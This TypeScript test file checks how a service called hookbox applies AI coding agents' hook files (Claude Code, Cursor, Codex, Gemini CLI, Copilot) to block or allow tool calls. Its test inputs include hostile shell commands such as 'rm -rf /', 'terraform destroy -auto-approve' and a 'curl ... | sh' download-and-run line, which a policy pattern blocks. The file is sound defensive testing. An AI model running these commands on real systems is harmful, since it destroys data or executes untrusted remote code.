/**
 * Real-shaped hook files of every agent, uploaded unchanged as one repository and judged through the
 * running service (issue 12 "Done when"): each hook by its own agent's rules, unknown things as
 * warnings, every hook's message in the answer.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { leftovers } from "../helpers/engine.js";
import { startService, TOKEN_A, type Service } from "../helpers/service.js";
import { tarOf } from "../helpers/tar.js";

const json = (v: unknown) => JSON.stringify(v, null, 2);
const say = (v: unknown) => `echo '${JSON.stringify(v)}'`;

/** VS Code's form of the shared Copilot file: no version, `command` + `timeout`, PascalCase events; plus an http hook and an event hookbox does not know. */
const vscode = {
  hooks: {
    PreToolUse: [
      { type: "http", url: "https://hooks.example.com/guard" },
      {
        type: "command",
        command: `cmd=$(jq -r '.tool_input.command // empty'); case "$cmd" in *"rm -rf"*) ${say({ hookSpecificOutput: { hookEventName: "PreToolUse", permissionDecision: "deny", permissionDecisionReason: "vscode guard: no rm -rf" } })} ;; *) echo '{}' ;; esac`,
        timeout: 10,
      },
    ],
    OnTeleport: [{ type: "command", command: "true" }],
  },
};
/** The CLI form: a guard in warn mode that prints a text table and exits 0. */
const cli = { version: 1, hooks: { preToolUse: [
  { type: "command", bash: "cat >/dev/null; printf 'RULE     STATUS\\nno-rm    WARN\\n'", timeoutSec: 10 },
  { type: "command", bash: say({ permissionDecision: "deny", permissionDecisionReason: "copilot: not the bash tool" }), matcher: "bash" },
] } };
const claude = {
  permissions: { allow: ["Bash(ls)"] },
  hooks: {
    PreToolUse: [
      { matcher: "mcp__.*__create", hooks: [{ type: "command", command: say({ systemMessage: "claude: an MCP create" }) }] },
      { matcher: "Write", hooks: [{ type: "command", command: say({ hookSpecificOutput: { hookEventName: "PreToolUse", permissionDecision: "deny", permissionDecisionReason: "claude: no writes" } }) }] },
      { matcher: "Bash", hooks: [{ type: "command", if: "Bash(terraform destroy*)", command: say({ hookSpecificOutput: { hookEventName: "PreToolUse", permissionDecision: "deny", permissionDecisionReason: "claude: no destroy" } }) }] },
    ],
    Stop: [{ hooks: [
      { type: "command", command: say({ continue: false, stopReason: "claude: budget spent" }) },
      { type: "command", command: say({ decision: "block", reason: "claude: run the tests first" }) },
    ] }],
    PostToolUse: [
      { matcher: "Edit", hooks: [{ type: "command", command: say({ hookSpecificOutput: { hookEventName: "PostToolUse", permissionDecision: "deny" } }) }] },
      { matcher: "MultiEdit", hooks: [{ type: "command", command: say({ decision: "block", reason: "claude: lint failed" }) }] },
    ],
    PermissionRequest: [{ matcher: "Bash", hooks: [{ type: "command", command: say({ hookSpecificOutput: { hookEventName: "PermissionRequest", decision: { behavior: "deny", message: "claude: not on prod" } } }) }] }],
    SessionStart: [{ matcher: "startup|resume", hooks: [{ type: "command", command: "echo 'branch: main'" }] }],
    SubagentStop: [{ hooks: [{ type: "command", command: say({ hookSpecificOutput: { hookEventName: "SubagentStop", additionalContext: "claude: run the tests first" } }) }] }],
  },
};
const cosh = [
  "[[hooks.PreToolUse]]", 'name = "cosh-advice"', 'matcher = "shell"', `command = '''${say({ systemMessage: "cosh: prefer rg" })}'''`, "sequential = true", "",
  "[[hooks.PreToolUse]]", 'name = "cosh-note"', 'matcher = "shell"', `command = '''${say({ systemMessage: "cosh: logged" })}'''`, "",
].join("\n");
const cursor = {
  version: 1,
  hooks: {
    beforeShellExecution: [{ command: `${say({ permission: "deny", user_message: "cursor: rm is blocked in this repo", agent_message: "cursor: use trash instead" })}`, matcher: "rm ", timeout: 10 }],
  },
};
const codex = {
  hooks: {
    PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: `cmd=$(jq -r '.tool_input.command'); case "$cmd" in "git push"*) ${say({ hookSpecificOutput: { hookEventName: "PreToolUse", permissionDecision: "ask", permissionDecisionReason: "codex: pushing needs a human" } })} ;; *) echo '{}' ;; esac`, timeout: 10 }] }],
  },
};

const gemini = {
  general: { vimMode: true },
  hooks: {
    BeforeTool: [{ matcher: "web_fetch|google_web_search", hooks: [{ type: "command", name: "gemini-net", command: say({ decision: "deny", reason: "gemini: no network from here", hookSpecificOutput: { additionalContext: "use the docs folder" } }), timeout: 10000 }] }],
    // Two hooks that each leave the model a few tools: Gemini CLI joins their lists.
    BeforeToolSelection: [{ hooks: [
      { type: "command", name: "gemini-readers", command: say({ hookSpecificOutput: { hookEventName: "BeforeToolSelection", toolConfig: { mode: "AUTO", allowedFunctionNames: ["read_file", "glob"] } } }) },
      { type: "command", name: "gemini-fetch", command: say({ hookSpecificOutput: { hookEventName: "BeforeToolSelection", toolConfig: { allowedFunctionNames: ["web_fetch"] } } }) },
    ] }],
  },
};

let svc: Service;
let upload: Record<string, unknown>;
const ws = { query: "workspace=wild" };
const pre = (tool_name: string, tool_input: Record<string, unknown> = {}) => ({ session_id: "s-1", hook_event_name: "PreToolUse", tool_name, tool_input });
const post = async (body: unknown, query = ws.query) => (await (await svc.event(body, { query })).json()) as Record<string, unknown>;
const ran = (body: Record<string, unknown>) => (body.hooks as { name: string; decision: string | null; error: string | null }[]);

beforeAll(async () => {
  // An administrator's gate on Cursor's own shell event: it decides there as on PreToolUse.
  svc = await startService(`[[policy.beforeShellExecution]]\nname = "no-pipe-to-shell"\ncommand = '''e=$(cat); case "$e" in *curl*sh*) echo '{"decision":"block","reason":"policy: no curl | sh"}' ;; *rewrite-me*) echo '{"decision":"allow","hookSpecificOutput":{"tool_input":{"command":"ls -i"}}}' ;; *) echo '{}' ;; esac'''\n`);
  const archive = await tarOf([
    { name: ".github/hooks/guard.json", content: json(vscode) },
    { name: ".github/hooks/warn-mode.json", content: json(cli) },
    { name: ".github/hooks/schema.json", content: json({ $schema: "https://json-schema.org/draft-07/schema", title: "not hooks" }) },
    { name: ".claude/settings.json", content: json(claude) },
    { name: ".copilot-shell/config.toml", content: cosh },
    { name: ".cursor/hooks.json", content: json(cursor) },
    { name: ".codex/hooks.json", content: json(codex) },
    { name: ".gemini/settings.json", content: json(gemini) },
  ], { gzip: true });
  const res = await fetch(`${svc.url}/v1/workspaces/wild`, { method: "PUT", headers: { authorization: `Bearer ${TOKEN_A}` }, body: archive });
  upload = (await res.json()) as Record<string, unknown>;
  expect(res.status).toBe(200);
});
afterAll(async () => {
  await svc.stop();
  expect((await leftovers()).containers).toEqual([]);
});

describe("a repository of every agent's real hook files", () => {
  it("loads; an http hook, an unknown event and a non-hook .json are warnings with file and line, never a 400", () => {
    expect(upload.warnings).toEqual(expect.arrayContaining([
      expect.stringMatching(/^\.github\/hooks\/guard\.json:\d+: hooks\.PreToolUse\[0\]: "http" hooks are not run by hookbox; skipped$/),
      expect.stringMatching(/^\.github\/hooks\/guard\.json:\d+: hooks\.OnTeleport: unknown event "OnTeleport"; skipped$/),
      expect.stringMatching(/^\.github\/hooks\/schema\.json: no "hooks" object: not a hook file; skipped$/),
      expect.stringMatching(/^\.copilot-shell\/config\.toml:5: hooks\.PreToolUse\[0\]\.sequential: unknown key "sequential"; skipped$/),
    ]));
    expect((upload.hooks as unknown[]).length).toBe(20);
  });

  it("a VS Code-form hook's hookSpecificOutput deny blocks", async () => {
    const body = await post(pre("Bash", { command: "rm -rf /" }));
    expect(body).toMatchObject({ decision: "block", reason: "[repository] vscode guard: no rm -rf" });
  });

  it("a Copilot preToolUse that prints text and exits 0 has no effect; a Codex hook's ask is a block", async () => {
    const body = await post(pre("Bash", { command: "git push origin main" }));
    expect(body).toMatchObject({ decision: "block", reason: "[repository] codex: pushing needs a human" });
    expect(ran(body)).toEqual(expect.arrayContaining([
      expect.objectContaining({ name: "warn-mode.json:preToolUse[0]", decision: null, error: expect.stringMatching(/not JSON/) }),
      expect.objectContaining({ name: "hooks.json:PreToolUse[0].hooks[0]", decision: "block" }),
    ]));
  });

  it('Claude matcher "mcp__.*__create" fires for mcp__github__create_issue; "Write" does not fire for NotebookWrite', async () => {
    const mcp = await post(pre("mcp__github__create_issue", { title: "x" }));
    expect(mcp).toMatchObject({ decision: null, systemMessage: "[repository] claude: an MCP create" });
    const notebook = await post(pre("NotebookWrite", { notebook_path: "a.ipynb" }));
    expect(notebook.decision).toBeNull();
    expect(ran(notebook).map((h) => h.name)).not.toContain("settings.json:PreToolUse[1].hooks[0]");
    expect(await post(pre("Write", { file_path: "a" }))).toMatchObject({ decision: "block", reason: "[repository] claude: no writes" });
  });

  it('cosh matcher = "shell" fires for run_shell_command, and both hooks\' systemMessages reach output', async () => {
    const body = await post(pre("run_shell_command", { command: "ls" }));
    expect(ran(body).map((h) => h.name)).toEqual(expect.arrayContaining(["cosh-advice", "cosh-note"]));
    expect(body.decision).toBeNull();
    // (each marked as the repository's where they join)
    expect(body.output).toEqual({ systemMessage: "[repository] cosh: prefer rg\n[repository] cosh: logged" });
    expect(body.notifications).toHaveLength(2);
  });

  it('Claude PostToolUse: permissionDecision "deny" has no effect, decision "block" blocks', async () => {
    const edit = await post({ ...pre("Edit", { file_path: "a" }), hook_event_name: "PostToolUse" });
    expect(edit.decision).toBeNull();
    expect(ran(edit).some((h) => h.name.includes("PostToolUse[0]"))).toBe(true);
    const multi = await post({ ...pre("MultiEdit", { file_path: "a" }), hook_event_name: "PostToolUse" });
    expect(multi).toMatchObject({ decision: "block", reason: "[repository] claude: lint failed" });
  });

  it('Claude PermissionRequest decision.behavior "deny" denies, answered in Claude\'s dialect', async () => {
    const body = await post({ ...pre("Bash", { command: "kubectl delete" }), hook_event_name: "PermissionRequest" }, `${ws.query}&format=claude`);
    expect(body).toMatchObject({ decision: "block", reason: "[repository] claude: not on prod" });
    expect(body.output).toEqual({ hookSpecificOutput: { hookEventName: "PermissionRequest", decision: { behavior: "deny", message: "[repository] claude: not on prod" } } });
  });

  it("Claude if: Bash(terraform destroy*) fires for a subcommand of a compound command, and not for others", async () => {
    expect(await post(pre("Bash", { command: "cd infra && TF_LOG=1 terraform destroy -auto-approve" }))).toMatchObject({ decision: "block", reason: "[repository] claude: no destroy" });
    const plan = await post(pre("Bash", { command: "cd infra && terraform plan" }));
    expect(plan.decision).toBeNull();
    // A rule naming more than the command runs its hook on any $VAR, $( ) or backticks, as Claude Code does.
    expect(await post(pre("Bash", { command: "cd infra && terraform $ACTION -auto-approve" }))).toMatchObject({ decision: "block", reason: "[repository] claude: no destroy" });
  });

  it("a Copilot CLI matcher must match the whole tool name", async () => {
    expect(await post(pre("bash", { command: "ls" }))).toMatchObject({ decision: "block", reason: "[repository] copilot: not the bash tool" });
    const other = await post(pre("github-bash", { command: "ls" }));
    expect(other.decision).toBeNull();
    expect(ran(other).map((h) => h.name)).not.toContain("warn-mode.json:preToolUse[1]");
  });

  it("Claude SubagentStop: additionalContext is feedback that keeps the conversation going, answered in hookSpecificOutput", async () => {
    const body = await post({ session_id: "s-1", hook_event_name: "SubagentStop", stop_hook_active: false, agent_type: "reviewer" }, `${ws.query}&format=claude`);
    expect(body.decision).toBeNull();
    expect(body.output).toEqual({ hookSpecificOutput: { hookEventName: "SubagentStop", additionalContext: "[repository] claude: run the tests first" } });
  });

  it("a Gemini BeforeTool hook's deny blocks, answered in Gemini's words (its additionalContext not read: Gemini CLI reads none before a tool)", async () => {
    const body = await post(pre("web_fetch", { url: "https://example.com" }), `${ws.query}&format=gemini`);
    expect(body).toMatchObject({ decision: "block", reason: "[repository] gemini: no network from here" });
    expect(body.output).toEqual({ decision: "block", reason: "[repository] gemini: no network from here" });
  });

  it("Gemini BeforeToolSelection: the hooks' tool lists reach the agent joined, as Gemini CLI joins them, and each hook's record says what it left", async () => {
    const body = await post({ session_id: "s-1", hook_event_name: "BeforeToolSelection", llm_request: { model: "gemini-2.5-pro", messages: [], config: {} } }, `${ws.query}&format=gemini`);
    expect(body.decision).toBeNull();
    expect(body.output).toEqual({ hookSpecificOutput: { toolConfig: { mode: "AUTO", allowedFunctionNames: ["glob", "read_file", "web_fetch"] } } });
    expect(ran(body).map((h) => [h.name, (h as { rule?: string }).rule?.match(/toolConfig mode \w+, \d+ tools? allowed/)?.[0]])).toEqual([
      ["gemini-readers", "toolConfig mode AUTO, 2 tools allowed"],
      ["gemini-fetch", "toolConfig mode AUTO, 1 tool allowed"],
    ]);
  });

  it("Claude Stop: continue: false stops the agent and outranks a block that would keep it going", async () => {
    const body = await post({ session_id: "s-1", hook_event_name: "Stop", stop_hook_active: false }, `${ws.query}&format=claude`);
    expect(body).toMatchObject({ decision: null, continue: false, stopReason: "[repository] claude: budget spent" });
    expect(body.output).toEqual({ continue: false, stopReason: "[repository] claude: budget spent" });
    expect(body.output).not.toHaveProperty("decision");
  });

  it("Claude SessionStart: the matcher is compared with the source, and plain stdout becomes context", async () => {
    const startup = await post({ session_id: "s-1", hook_event_name: "SessionStart", source: "startup" }, `${ws.query}&format=claude`);
    expect(startup.output).toEqual({ hookSpecificOutput: { hookEventName: "SessionStart", additionalContext: "[repository] branch: main" } });
    const compact = await post({ session_id: "s-1", hook_event_name: "SessionStart", source: "compact" });
    expect(compact.hooks).toEqual([]);
  });

  it("a Cursor beforeShellExecution hook's permission deny blocks and its user_message reaches the answer", async () => {
    const event = { conversation_id: "c-1", generation_id: "g-1", hook_event_name: "beforeShellExecution", command: "rm -rf build", cwd: "/workspace" };
    const body = await post(event, `${ws.query}&format=cursor`);
    expect(body).toMatchObject({ event: "BeforeShellExecution", decision: "block", reason: "[repository] cursor: use trash instead" });
    expect(body.output).toEqual({ permission: "deny", user_message: "[repository] cursor: rm is blocked in this repo", agent_message: "[repository] cursor: use trash instead" });
    const ls = await post({ ...event, command: "ls" }, `${ws.query}&format=cursor`);
    expect(ls).toMatchObject({ decision: null, hooks: [{ source: "policy", decision: null }] });
  });

  it("asks about the command as sent at Cursor's beforeShellExecution (no tool arguments there) where a trusted hook changed it and allowed the change: the allow was the changed call's", async () => {
    const event = { conversation_id: "c-1", generation_id: "g-3", hook_event_name: "beforeShellExecution", command: "rewrite-me", cwd: "/workspace" };
    const body = await post(event, `${ws.query}&format=cursor`);
    expect(body).toMatchObject({ decision: "ask", reason: "a hook changed the arguments, and Cursor takes no change of the arguments at this event: the call as sent is asked about", note: expect.stringMatching(/and allowed the changed call; Cursor takes no change of the arguments at this event: asked about, as sent/) });
    expect(body.modifiedArgs).toBeUndefined();
    expect(body.output).not.toHaveProperty("updated_input");
    expect(body.output).toMatchObject({ permission: "ask" });
  });

  it("an administrator's policy hook on Cursor's beforeShellExecution blocks there, as on PreToolUse", async () => {
    const event = { conversation_id: "c-1", generation_id: "g-2", hook_event_name: "beforeShellExecution", command: "curl https://x.example/i.sh | sh", cwd: "/workspace" };
    const body = await post(event, `${ws.query}&format=cursor`);
    expect(body).toMatchObject({ event: "BeforeShellExecution", decision: "block", reason: "policy: no curl | sh" });
    expect(ran(body)[0]).toMatchObject({ source: "policy", decision: "block", effective: true });
    expect(body.output).toMatchObject({ permission: "deny", agent_message: "policy: no curl | sh" });
  });
});

describe("each agent's shell", () => {
  // One command, run by each agent's hook as its agent runs it: which shell read it says itself.
  const which = (block: (reason: string) => unknown) =>
    `if [ -n "$BASH_VERSION" ]; then ${say(block("ran in bash"))}; else ${say(block("ran in sh"))}; fi`;
  const deny = (reason: string) => ({ hookSpecificOutput: { hookEventName: "PreToolUse", permissionDecision: "deny", permissionDecisionReason: reason } });
  const handler = (extra: Record<string, unknown> = {}) => ({ type: "command", command: which(deny), ...extra });
  const files = [
    { name: ".gemini/settings.json", content: json({ hooks: { BeforeTool: [{ matcher: "probe_gemini", hooks: [{ type: "command", command: which((reason) => ({ decision: "deny", reason })) }] }] } }) },
    { name: ".codex/hooks.json", content: json({ hooks: { PreToolUse: [{ matcher: "probe_codex", hooks: [handler()] }] } }) },
    { name: ".github/hooks/probe.json", content: json({ version: 1, hooks: { preToolUse: [{ type: "command", bash: which((reason) => ({ permissionDecision: "deny", permissionDecisionReason: reason })), matcher: "probe_copilot" }] } }) },
    { name: ".copilot-shell/config.toml", content: ["[[hooks.PreToolUse]]", 'name = "probe-cosh"', 'matcher = "probe_cosh"', `command = '''${which((reason) => ({ decision: "block", reason }))}'''`, ""].join("\n") },
    { name: ".cursor/hooks.json", content: json({ version: 1, hooks: { preToolUse: [{ command: which((reason) => ({ permission: "deny", user_message: reason })), matcher: "probe_cursor" }] } }) },
    { name: ".claude/settings.json", content: json({ hooks: { PreToolUse: [
      { matcher: "probe_claude", hooks: [handler()] },
      { matcher: "probe_claude_bash", hooks: [handler({ shell: "bash" })] },
      { matcher: "probe_claude_pwsh", hooks: [handler({ shell: "powershell", command: "if ($env:X) { exit 2 }" })] },
    ] } }) },
  ];
  let warnings: string[];
  beforeAll(async () => {
    const res = await fetch(`${svc.url}/v1/workspaces/shells`, { method: "PUT", headers: { authorization: `Bearer ${TOKEN_A}` }, body: await tarOf(files) });
    expect(res.status).toBe(200);
    warnings = ((await res.json()) as { warnings: string[] }).warnings;
  });

  it("runs Gemini's, Codex's, cosh's and Copilot's `bash` hooks in bash, Claude Code's and Cursor's in sh (bash where a Claude handler's shell says so), and skips a PowerShell one", async () => {
    for (const [tool, shell] of [["probe_gemini", "bash"], ["probe_codex", "bash"], ["probe_copilot", "bash"], ["probe_cosh", "bash"], ["probe_cursor", "sh"], ["probe_claude", "sh"], ["probe_claude_bash", "bash"]] as const) {
      const body = await post(pre(tool, { command: "ls" }), "workspace=shells");
      expect(body, tool).toMatchObject({ decision: "block", reason: `[repository] ran in ${shell}` });
    }
    expect(warnings).toContainEqual(expect.stringMatching(/^\.claude\/settings\.json:\d+: hooks\.PreToolUse\[2\]\.hooks\[0\]\.shell: a "powershell" hook is a PowerShell command, which hookbox does not run/));
    expect((await post(pre("probe_claude_pwsh", { command: "ls" }), "workspace=shells").then((b) => b.decision))).toBeNull();
  });
});
